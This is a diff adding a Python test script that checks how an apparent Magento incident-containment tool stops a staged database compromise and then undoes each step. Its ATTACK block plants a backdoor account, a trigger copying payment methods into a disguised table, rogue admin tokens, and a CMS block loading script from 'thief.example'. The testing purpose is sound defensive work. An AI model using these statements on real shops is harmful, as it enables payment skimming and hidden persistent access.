@@ -1,0 +1,183 @@
+#!/usr/bin/env python3
+"""Steps of containment at the shop's database, by hand: the attack fails after each, the shop goes on selling, the undo gives all back.
+
+usage: contain_database.py MAGEWARDEN
+
+First the contract of actions on a real MariaDB (`cargo test -p magewarden-responders`): also through a death between any two changes.
+Then the stand-in shop, with the account and the grants of docs/containment.md and no others: for each action the attack is done,
+contained, tried again, and taken back, with checkouts of all views beside it; what the database holds is compared before and after.
+"""
+import os
+import pathlib
+import re
+import subprocess
+import sys
+import time
+
+sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "shop"))
+
+from contain import HOSTS_OF, Checkouts, Containment
+from shared import client, need, stage
+from shop import Shop
+
+ROOT = pathlib.Path(__file__).resolve().parents[2]
+# What checkouts write themselves.
+SOLD = {"mg_quote", "mg_quote_id_mask", "mg_quote_item", "mg_quote_payment", "mg_sales_order", "mg_sales_order_payment"}
+ATTACK = """
+use shop;
+create user report@'%' identified by 'report'; grant select on shop.* to report@'%';
+create table mg_cache_tag_index (what text);
+create definer = report@'%' trigger order_index after insert on mg_sales_order_payment for each row insert into mg_cache_tag_index values (new.method);
+grant insert on shop.mg_cache_tag_index to report@'%'; grant trigger on shop.* to report@'%';
+insert into mg_admin_user (user_id, username, is_active, created, modified) values (7, 'eve', 1, '2026-01-02', '2026-02-03'), (8, 'ben', 1, '2026-01-02', '2026-02-03');
+insert into mg_admin_user_session (user_id, status, updated_at) values (7, 1, '2026-02-03'), (8, 1, '2026-02-03');
+insert into mg_integration (name, status, consumer_id, updated_at) values ('ERP', 1, 4, '2026-02-03');
+insert into mg_oauth_token (consumer_id, admin_id, type, token, revoked) values (4, null, 'access', 'a', 0), (null, 7, 'access', 'd', 0);
+insert into mg_customer_entity (website_id, email, updated_at) values (1, 'a@example.com', '2026-02-03'), (2, 'b@example.com', '2026-02-03');
+update mg_core_config_data set updated_at = '2026-02-03';
+update mg_cms_block set content = '<script src="//thief.example/x.js"></script>', update_time = '2026-02-03';
+"""
+
+
+def contract(folder):
+    """The contract of actions, at the shop's own server; the shop's schema is made anew by it, so this comes first."""
+    env = {**os.environ, "MAGEWARDEN_TEST_MARIADB": f"{folder}/sock"}
+    tested = subprocess.run(["cargo", "test", "--locked", "-p", "magewarden-responders", "--test", "it", "database"], env=env, cwd=ROOT, capture_output=True, text=True)
+    need(tested.returncode == 0 and "1 passed" in tested.stdout, "the contract of actions at a real MariaDB", tested.stdout + tested.stderr)
+
+
+class AtDatabase(Containment):
+    """The command, at a shop's database, by an account with the grants that are written down."""
+
+    def __init__(self, magewarden, shop):
+        super().__init__(magewarden, shop)
+        manual = (ROOT / "docs/containment.md").read_text()
+        for line in re.findall(r"^(?:CREATE USER|GRANT) .*;$", manual, re.M):
+            shop.sql(line.replace("`shop`.`", "`shop`.`mg_").replace("PASSWORD", "word"))
+        self.word, self.good = shop.folder / "word", shop.folder / "good"
+        self.word.write_text("word\n")
+        self.word.chmod(0o600)
+        self.good.mkdir(mode=0o700)
+        with open(shop.folder / "host.toml", "a") as settings:
+            settings.write(f'[database]\nsocket = "{shop.folder}/sock"\nuser = "containment"\npassword_file = "{self.word}"\nschema = "shop"\nprefix = "mg_"\n'
+                           f'good_rows = "{self.good}"\n')
+
+    def seen(self):
+        """All rows but those that checkouts write, accounts with their grants, triggers."""
+        sql, out = self.shop.sql, {}
+        for table in sql("select table_name from information_schema.tables where table_schema = 'shop'").split():
+            if table not in SOLD and table != "mg_cache_tag_index":
+                out[table] = sql(f"select * from shop.{table}")
+        out["account"] = sql("show create user report@'%'; show grants for report@'%'")
+        for trigger in sql("select trigger_name from information_schema.triggers where trigger_schema = 'shop'").split():
+            out[f"trigger {trigger}"] = sql(f"show create trigger shop.{trigger}")
+        return out
+
+    def contained(self, words, attack, stays=(), views=tuple(HOSTS_OF)):
+        """Does it, with the attack before, after, and after the undo; `attack` says whether it still works."""
+        words = [words[0], *(part for word in words[1:] for part in ("--set", word))]
+        before = self.seen()
+        need(attack(), f"{words}: the attack works before")
+        told = self.right(*words, "--survey")
+        need(self.seen() == before and "→" in told, f"{words}: surveying changes nothing", told)
+        with Checkouts(self.shop, [(HOSTS_OF[view], view) for view in views]) as others:
+            need(self.right(*words, "--act") == "in effect\n", f"{words}: in effect")
+            self.shop.flush()
+            need(not attack(), f"{words}: the attack fails after it")
+            need(self.right(*words, "--check") == "in effect\n", f"{words}: it holds")
+            self.right(*words, "--act")
+            time.sleep(0.5)
+            self.right(*words, "--undo")
+        need(others.bought and not others.lost, f"{words}: checkouts pass ({others.bought} did)", others.lost[:5])
+        self.shop.flush()
+        now = self.seen()
+        wrong = [(name, before.get(name), now.get(name)) for name in sorted(before.keys() | now.keys()) if before.get(name) != now.get(name) and name not in stays]
+        need(not wrong, f"{words} undone: all is as before", "\n".join(map(str, wrong)))
+        return others.bought
+
+    def refused(self, words, said):
+        before = self.seen()
+        done = self.run(words[0], *(part for word in words[1:] for part in ("--set", word)), "--act")
+        need(done.returncode == 1 and said in " ".join(done.stderr.replace("│", " ").split()), f"{words} is refused: {said}", done.stdout + done.stderr)
+        need(self.seen() == before, f"{words}: nothing changed")
+
+
+def thief(shop):
+    """Somebody who logs in with the stolen account's password."""
+    return subprocess.run(["mariadb", "--no-defaults", f"--socket={shop.folder}/sock", "-ureport", "-preport", "-e", "select 1"], capture_output=True).returncode == 0
+
+
+def copies(shop):
+    """Whether an order is copied to where the trigger writes."""
+    before = shop.sql("select count(*) from shop.mg_cache_tag_index")
+    int(shop.buy("de.shop.test", "de"))
+    return shop.sql("select count(*) from shop.mg_cache_tag_index") != before
+
+
+def main():
+    magewarden = pathlib.Path(sys.argv[1]).resolve()
+    with stage("contract") as (started, folder):
+        from shared import database, free_port
+        server, _ = database(folder, free_port(), audit=False, options=["--innodb-flush-log-at-trx-commit=0"])
+        started.append(server)
+        contract(folder)
+    with stage("contain-database") as (started, folder):
+        shop = Shop(folder, started)
+        shop.sql(ATTACK)
+        at = AtDatabase(magewarden, shop)
+        one = lambda asked: lambda: shop.sql(asked).strip() == "1"
+        bought = at.contained(["lock_database_account", "account=report@%"], lambda: thief(shop))
+
+        held = subprocess.Popen(["mariadb", "--no-defaults", f"--socket={shop.folder}/sock", "-ureport", "-preport", "-e", "select sleep(600)"],
+                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        started.append(held)
+        time.sleep(1)
+        open_now = lambda: shop.sql("select count(*) from information_schema.processlist where user = 'report'").strip() != "0"
+        bought += at.contained(["end_connections", "account=report@%"], open_now)
+        need(held.wait(10) != 0, "the thief's connection is gone")
+
+        bought += at.contained(["drop_trigger", "trigger=order_index"], lambda: copies(shop))
+        need(copies(shop), "the trigger runs again after the undo")
+        bought += at.contained(["deactivate_administrator", "administrator=eve"], one(
+            "select count(*) from shop.mg_admin_user u left join shop.mg_admin_user_session s using (user_id) where user_id = 7 and u.is_active = 1"),
+            stays={"mg_admin_user_session", "mg_oauth_token", "mg_jwt_auth_revoked"})
+        ended = shop.sql("select (select status from shop.mg_admin_user_session where user_id = 7), (select revoked from shop.mg_oauth_token where admin_id = 7), "
+                         "(select count(*) from shop.mg_jwt_auth_revoked where user_type_id = 2 and user_id = 7 and revoke_before > unix_timestamp() - 600)")
+        need(ended.split() == ["3", "1", "1"], "sessions and tokens stay ended", ended)
+        bought += at.contained(["revoke_integration", "integration=ERP"], one("select count(*) from shop.mg_oauth_token where consumer_id = 4 and revoked = 0"))
+        offers = lambda: '"checkmo"' in shop.ask("us.shop.test", "/rest/us/V1/guest-carts/x/payment-methods")[2]
+        bought += at.contained(["disable_payment_method", "website=second", "method=checkmo"], offers, views=("de", "fr"))
+        (at.good / "cms_block:1.json").write_text('{"content": "<p>We ship within a day.</p>"}')
+        poisoned = lambda: "thief.example" in shop.ask("de.shop.test", "/checkout/")[2]
+        bought += at.contained(["revert_row", "row=cms_block:1"], poisoned)
+
+        # The stand-in logs no customers in: looked at is what Magento goes by.
+        runs = one("select count(*) from shop.mg_customer_entity where website_id = 2 and session_cutoff is null")
+        bought += at.contained(["end_customer_sessions", "website=second"], runs, stays={"mg_customer_entity"})
+        kept = shop.sql("select website_id, session_cutoff is null, updated_at from shop.mg_customer_entity order by 1").split("\n")[:2]
+        need(kept == ["1\t1\t2026-02-03 00:00:00", "2\t0\t2026-02-03 00:00:00"], "another website's customers and the times of change are as before", kept)
+
+        at.refused(["lock_database_account", "account=shop@localhost"], "the shop itself logs in")
+        at.refused(["lock_database_account", "account=containment@localhost"], "magewarden itself")
+        at.refused(["end_connections", "account=containment@localhost"], "magewarden itself")
+        shop.sql("update shop.mg_admin_user set is_active = 0 where user_id = 8")
+        at.refused(["deactivate_administrator", "administrator=eve"], "no other administrator is active")
+        env = shop.root / "app/etc/config.php"
+        env.write_text("<?php return ['system' => ['websites' => ['second' => ['payment' => ['checkmo' => ['active' => '1']]]]]];\n")
+        at.refused(["disable_payment_method", "website=second", "method=checkmo"], "app/etc/config.php under system/websites/second/payment/checkmo/active")
+        # Somebody holds what a step needs: it gives up by itself, and says so.
+        holder = subprocess.Popen(client(shop.folder), stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True)
+        started.append(holder)
+        holder.stdin.write("begin; update shop.mg_integration set email = 'x';\n")
+        holder.stdin.flush()
+        time.sleep(1)
+        begun = time.monotonic()
+        done = at.run("revoke_integration", "--set", "integration=ERP", "--act")
+        need(done.returncode == 1 and time.monotonic() - begun < 14, "a lock is waited for a few seconds", done.stdout + done.stderr)
+        holder.stdin.close()
+        holder.wait(10)
+        print(f"15 passed, 0 failed (the contract of actions, 8 attacks contained and taken back, 5 refusals, a lock that isn't given; {bought} checkouts meanwhile)")
+
+
+if __name__ == "__main__":
+    main()
